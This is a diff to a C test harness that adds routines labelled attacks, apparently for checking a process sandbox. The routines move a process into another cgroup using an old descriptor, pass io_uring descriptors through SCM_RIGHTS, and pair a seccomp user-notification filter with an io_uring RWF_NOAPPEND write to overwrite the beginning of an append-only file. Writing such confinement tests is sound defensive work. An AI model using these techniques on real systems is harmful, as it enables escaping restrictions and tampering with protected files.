@@ -3,9 +3,12 @@
 #include "attack.h"
 
 #include <arpa/inet.h>
+#include <linux/filter.h>
 #include <linux/io_uring.h>
+#include <linux/seccomp.h>
 #include <netinet/ip.h>
 #include <sched.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
@@ -183,6 +186,125 @@ static enum result ring_identity(const char *arg)
 	return ok("got %s with other credentials", arg);
 }
 
+/* FILE, a cgroup.procs: this process goes there, after its credentials have changed. */
+static enum result cgroup_identity(const char *arg)
+{
+	int fd = open(arg, O_WRONLY);
+
+	if (fd < 0)
+		return failed("open(%s): %s", arg, error_name(errno));
+	if (prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0))
+		return refused("prctl()");
+	return write(fd, "0", 1) == 1 ? ok("went to %s", arg) : refused("write(%s)", arg);
+}
+
+/* A ring that somebody made who is not confined, on descriptor 0: it is sent on, and received. */
+static enum result receive_ring(const char *arg)
+{
+	union {
+		char space[CMSG_SPACE(sizeof(int))];
+		struct cmsghdr header;
+	} control = { .header = { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
+	char byte = 'x';
+	struct iovec data = { &byte, 1 };
+	struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control) };
+	int ends[2];
+
+	(void)arg;
+	memcpy(CMSG_DATA(&control.header), &(int){ 0 }, sizeof(int));
+	if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) || sendmsg(ends[0], &message, 0) != 1)
+		return failed("sendmsg(): %s", error_name(errno));
+	message.msg_controllen = sizeof(control);
+	if (recvmsg(ends[1], &message, 0) != 1)
+		return refused("recvmsg()");
+	errno = EPERM; /* the kernel leaves out what may not be received */
+	return message.msg_controllen ? ok("received a ring") : refused("recvmsg()");
+}
+
+/* COMMAND ...: executed with a ring on descriptor 0. */
+static enum result with_ring(const char *arg)
+{
+	struct io_uring_params parameters = {};
+	int fd = syscall(SYS_io_uring_setup, 1, &parameters);
+
+	if (fd < 0 || dup2(fd, 0))
+		return refused("io_uring_setup()");
+	execl("/bin/sh", "sh", "-c", format("exec %s", arg), NULL);
+	return refused("execl()");
+}
+
+#ifndef SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV
+#define SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV (1UL << 5)
+#endif
+#define NOWHERE 777
+
+/* Every write to the descriptor NOWHERE waits for an answer of whoever has what this returns. */
+static int filter_writes(void)
+{
+	struct sock_filter program[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_write, 0, 3),
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, NOWHERE, 0, 1),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog filter = { sizeof(program) / sizeof(program[0]), program };
+
+	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0))
+		return -1;
+	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
+		       SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV, &filter);
+}
+
+/*
+ * FILE, which is open to append: its beginning is written to by an io_uring, at the end of a write(2) that a filter answers with
+ * ENOSYS, so that it seems to have no answer yet.
+ */
+static enum result ring_behind_filter(const char *arg)
+{
+	struct io_uring_sqe entries[2] = {};
+	char before, after, byte;
+	struct requests ring;
+	int ends[2], filter;
+	int fd = open(arg, O_RDWR | O_APPEND);
+
+	if (fd < 0 || pread(fd, &before, 1, 0) != 1)
+		return failed("open(%s): %s", arg, error_name(errno));
+	byte = before + 1;
+	if (open_requests(&ring) || pipe(ends))
+		return refused("io_uring_setup()");
+	filter = filter_writes();
+	if (filter < 0)
+		return failed("seccomp(): %s", error_name(errno));
+	entries[0] = (struct io_uring_sqe){
+		.opcode = IORING_OP_POLL_ADD, .flags = IOSQE_IO_LINK, .fd = ends[0], .poll_events = 1 /* POLLIN */, .user_data = 1,
+	};
+	entries[1] = (struct io_uring_sqe){
+		.opcode = IORING_OP_WRITE, .fd = fd, .addr = (uintptr_t)&byte, .len = 1, .rw_flags = 0x20 /* RWF_NOAPPEND */,
+		.user_data = 2,
+	};
+	if (submit_all(&ring, entries, 2))
+		return refused("io_uring_enter()");
+	if (!fork()) {
+		struct seccomp_notif request = {};
+		struct seccomp_notif_resp answer = { .error = -ENOSYS };
+
+		if (ioctl(filter, SECCOMP_IOCTL_NOTIF_RECV, &request))
+			_exit(1);
+		usleep(200000);
+		answer.id = request.id;
+		_exit(write(ends[1], "x", 1) != 1 || usleep(200000) || ioctl(filter, SECCOMP_IOCTL_NOTIF_SEND, &answer));
+	}
+	if (write(NOWHERE, "x", 1) != -1 || errno != ENOSYS)
+		return failed("write(): %s", error_name(errno));
+	if (wait_for(&ring, 2) < 0)
+		return errno == EOPNOTSUPP || errno == EINVAL ? failed("RWF_NOAPPEND: EOPNOTSUPP") : refused("io_uring's write");
+	if (pread(fd, &after, 1, 0) != 1 || after != byte)
+		return failed("it was appended");
+	return ok("wrote over the beginning of %s", arg);
+}
+
 /* FILE: written to after a ring was made; nothing else is done by it. */
 static enum result ring_then_write(const char *arg)
 {
@@ -320,6 +442,10 @@ const struct attack process_attacks[] = {
 	ATTACK(migrate_pages, "migrate_pages(2): PID"),
 	ATTACK(own_limits, "all of these to itself"),
 	ATTACK(ring_identity, "an io_uring with registered credentials: socket|FILE"),
+	ATTACK(cgroup_identity, "cgroup.procs by a descriptor from before the credentials changed: FILE"),
+	ATTACK(ring_behind_filter, "what is open to append written over by an io_uring: FILE"),
+	ATTACK(receive_ring, "an io_uring by SCM_RIGHTS; it is on descriptor 0"),
+	ATTACK(with_ring, "with one on descriptor 0: COMMAND ..."),
 	ATTACK(ring_then_write, "open(2) to write, after an io_uring was made: FILE"),
 	ATTACK(ring_command, "IORING_OP_URING_CMD: FILE"),
 	ATTACK(forge_executable, "PR_SET_MM_EXE_FILE: FILE"),
